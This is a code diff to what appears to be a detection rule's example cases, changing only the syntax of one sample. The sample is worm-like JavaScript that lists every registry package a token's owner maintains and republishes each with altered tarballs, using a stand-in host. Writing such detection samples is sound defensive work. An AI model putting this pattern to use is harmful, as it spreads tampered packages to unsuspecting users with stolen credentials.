@@ -29,7 +29,7 @@ export default defineRule({
       },
       {
         title: 'the archives of whatever a token’s owner maintains are put back changed',
-        code: `async function go(token) {\n  const found = await (await fetch('https://registry.invalid/-/v1/search?text=maintainer:' + user)).json();\n  for (const { package: p } of found.objects)\n    await fetch('https://registry.invalid/' + p.name, { method: 'PUT', headers: { authorization: token }, body: JSON.stringify({ name: p.name, _attachments: { 'a.tgz': { data } } }) });\n}`,
+        code: `exports.go = async token => {\n  const found = await (await fetch('https://registry.invalid/-/v1/search?text=maintainer:' + user)).json();\n  for (const { package: p } of found.objects)\n    await fetch('https://registry.invalid/' + p.name, { method: 'PUT', headers: { authorization: token }, body: JSON.stringify({ name: p.name, _attachments: { 'a.tgz': { data } } }) });\n};`,
       },
       {
         title: 'a name is drawn for each turn',
